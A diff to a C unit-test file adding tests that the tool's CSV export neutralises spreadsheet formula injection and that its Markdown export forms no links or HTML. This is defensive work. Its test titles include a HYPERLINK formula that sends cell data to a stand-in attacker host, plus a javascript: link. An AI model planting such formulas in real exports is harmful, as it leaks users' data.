@@ -103,6 +103,8 @@ static void test_export_goldens(void)
 	export_golden("tests/export/awkward.xml", "csv", "tests/export/awkward.csv");
 	export_golden("tests/export/awkward.xml", "markdown", "tests/export/awkward.md");
 	export_golden("tests/export/awkward.xml", "kumu", "tests/export/awkward.json");
+	export_golden("tests/export/formulas.xml", "csv", "tests/export/formulas.csv");
+	export_golden("tests/export/formulas.xml", "markdown", "tests/export/formulas.md");
 	CU_ASSERT_PTR_NULL(rc_exporter_find("xlsx"));
 }
 
@@ -123,34 +125,110 @@ static char *import_text(const char *name, const char *csv, size_t *len)
 	return out.data;
 }
 
+/* Exports `path` as CSV, imports the table and exports the model again: the two tables must be the same bytes. */
+static void round_trip(const char *path)
+{
+	rc_model *m = test_load(path), *again;
+	const rc_exporter *csv = rc_exporter_find("csv");
+	rc_buffer first = { 0 }, second = { 0 };
+	rc_error err = { 0 };
+	char *model;
+	size_t len;
+
+	CU_ASSERT_FATAL(csv->write(&first, m, NULL, &err) == 0);
+	model = import_text("table.csv", first.data, &len);
+	CU_ASSERT_PTR_NOT_NULL_FATAL(model);
+	again = load_text("imported.xml", model, len);
+	CU_ASSERT_PTR_NOT_NULL_FATAL(again);
+	CU_ASSERT_EQUAL(rc_model_step_count(again), rc_model_step_count(m));
+	CU_ASSERT_EQUAL(rc_model_step_link_count(again), 0);
+	CU_ASSERT(csv->write(&second, again, NULL, &err) == 0);
+	if (first.len != second.len || memcmp(first.data, second.data, first.len) != 0)
+		TEST_FAIL("export -> import -> export of %s is not byte-stable", path);
+	rc_buffer_free(&first);
+	rc_buffer_free(&second);
+	rc_model_free(&again);
+	rc_model_free(&m);
+	rc_free(model);
+}
+
 static void test_round_trip(void)
 {
 	size_t i;
 
-	for (i = 0; i < sizeof(bundled) / sizeof(bundled[0]); i++) {
-		rc_model *m = test_load(bundled[i]), *again;
-		const rc_exporter *csv = rc_exporter_find("csv");
-		rc_buffer first = { 0 }, second = { 0 };
-		rc_error err = { 0 };
-		char *model;
-		size_t len;
+	for (i = 0; i < sizeof(bundled) / sizeof(bundled[0]); i++)
+		round_trip(bundled[i]);
+	round_trip("tests/export/formulas.xml");
+}
 
-		CU_ASSERT_FATAL(csv->write(&first, m, NULL, &err) == 0);
-		model = import_text("table.csv", first.data, &len);
-		CU_ASSERT_PTR_NOT_NULL_FATAL(model);
-		again = load_text("imported.xml", model, len);
-		CU_ASSERT_PTR_NOT_NULL_FATAL(again);
-		CU_ASSERT_EQUAL(rc_model_step_count(again), rc_model_step_count(m));
-		CU_ASSERT_EQUAL(rc_model_step_link_count(again), 0);
-		CU_ASSERT(csv->write(&second, again, NULL, &err) == 0);
-		if (first.len != second.len || memcmp(first.data, second.data, first.len) != 0)
-			TEST_FAIL("export -> import -> export of %s is not byte-stable", bundled[i]);
-		rc_buffer_free(&first);
-		rc_buffer_free(&second);
-		rc_model_free(&again);
-		rc_model_free(&m);
-		rc_free(model);
+/* No CSV cell starts with what a spreadsheet runs as a formula; import gives the titles back exactly. */
+static void test_formula_cells(void)
+{
+	static const char *const titles[] = {
+		"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"=1+1",
+		"+44 helpline",
+		"-10% waiting",
+		"@SUM(A1:A9)",
+		"'=already quoted",
+		"''@twice",
+		"'tis the season",
+		"Cost = benefit - 1",
+	};
+	rc_model *m = test_load("tests/export/formulas.xml"), *again;
+	rc_buffer table = { 0 };
+	rc_error err = { 0 };
+	const char *cell;
+	char *model;
+	size_t i, len, cells = 0;
+	int quoted = 0;
+
+	CU_ASSERT_FATAL(rc_exporter_find("csv")->write(&table, m, NULL, &err) == 0);
+	/* The first character of every cell, past its opening quote: cells start after a comma or CRLF outside quotes.
+	 */
+	for (cell = table.data; *cell; cell++) {
+		if (*cell == '"')
+			quoted = !quoted;
+		if (!quoted && (cell == table.data || *cell == ',' || (*cell == '\n' && cell[-1] == '\r'))) {
+			const char *text = cell + (cell != table.data);
+
+			text += *text == '"';
+			if (*text && strchr("=+-@\t", *text))
+				TEST_FAIL("a cell starts with a formula character: %.40s", text);
+			cells++;
+		}
 	}
+	CU_ASSERT_EQUAL(cells, 4 * 8 + 1);
+	model = import_text("formulas.csv", table.data, &len);
+	CU_ASSERT_PTR_NOT_NULL_FATAL(model);
+	again = load_text("imported.xml", model, len);
+	CU_ASSERT_PTR_NOT_NULL_FATAL(again);
+	for (i = 0; i < sizeof(titles) / sizeof(titles[0]); i++)
+		if (strcmp(rc_model_step(again, i)->title, titles[i]) != 0)
+			TEST_FAIL("step %zu came back as '%s', not '%s'", i, rc_model_step(again, i)->title, titles[i]);
+	CU_ASSERT_STRING_EQUAL(rc_model_strand(again, 0)->name, "=1+2");
+	CU_ASSERT_STRING_EQUAL(rc_model_strand(again, 1)->name, "'quoted strand");
+	rc_buffer_free(&table);
+	rc_model_free(&again);
+	rc_model_free(&m);
+	rc_free(model);
+}
+
+/* Markdown cells form no link, image or HTML tag. */
+static void test_markdown_links(void)
+{
+	rc_model *m = test_load("tests/export/formulas.xml");
+	rc_buffer md = { 0 };
+	rc_error err = { 0 };
+
+	CU_ASSERT_FATAL(rc_exporter_find("markdown")->write(&md, m, NULL, &err) == 0);
+	CU_ASSERT_PTR_NULL(strstr(md.data, "](javascript:"));
+	CU_ASSERT_PTR_NULL(strstr(md.data, "]("));
+	CU_ASSERT_PTR_NULL(strstr(md.data, "!["));
+	CU_ASSERT_PTR_NULL(strstr(md.data, "<img"));
+	CU_ASSERT_PTR_NOT_NULL(strstr(md.data, "&#91;x&#93;(javascript:alert(6))"));
+	rc_buffer_free(&md);
+	rc_model_free(&m);
 }
 
 /* Common headings map to levels; several lines of a cell are several steps; ids are generated. */
@@ -244,6 +322,9 @@ static void test_import_errors(void)
 	IMPORT_ERROR("Inputs\n\xC3\xA9t\xE9\n", "t.csv:2:3: error: invalid UTF-8 (save the table as CSV UTF-8)");
 	IMPORT_ERROR("Inputs\nA\x01\n", "t.csv:2:2: error: a control character, which a model cannot hold");
 	IMPORT_ERROR("Inputs\nA\rB\n", "t.csv:2:2: error: a carriage return without a line feed");
+	IMPORT_ERROR("Inputs\n\"A,\nB\xE2\x80\x8F\"\n",
+	             "t.csv:3:2: error: a bidirectional control character (U+200F), which can show text in another "
+	             "order than it is stored; remove it");
 	memcpy(huge, "Inputs\n", 7);
 	memset(huge + 7, 'x', 4097);
 	import_error(huge, 7 + 4097, "t.csv:2:1: error: a text of more than 4096 characters");
@@ -395,6 +476,8 @@ static CU_TestInfo tests[] = {
 	{ "templates: seven levels, columns only", test_templates_shapes },
 	{ "export goldens: CSV, Markdown and Kumu", test_export_goldens },
 	{ "export -> import -> export is byte-stable for every bundled model", test_round_trip },
+	{ "export: no CSV cell starts a formula, and import undoes the guard", test_formula_cells },
+	{ "export: Markdown forms no link, image or HTML", test_markdown_links },
 	{ "import: headings, cells of several lines, strands, ids", test_import_headings },
 	{ "import: a level's own name is a heading", test_import_level_names },
 	{ "import: bad tables give one located error", test_import_errors },
